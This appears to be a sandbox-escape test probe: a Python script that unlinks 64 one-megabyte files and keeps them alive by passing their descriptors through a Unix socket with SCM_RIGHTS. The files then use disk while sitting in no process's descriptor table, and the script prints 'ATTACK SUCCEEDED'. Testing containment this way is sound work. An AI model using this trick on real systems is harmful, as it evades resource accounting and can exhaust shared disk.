# attacks = "the disk, by files whose descriptors are under way in a socket, in no process's table"
# %% own
import array, os, socket, time
ours, theirs = socket.socketpair()
try:
    for number in range(64):
        with open("part", "wb", buffering=0) as file:
            os.unlink("part")
            file.write(bytes(2**20))
            ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file.fileno()]))])
    time.sleep(0.6)
    print("ATTACK " + "SUCCEEDED")
except OSError:
    pass
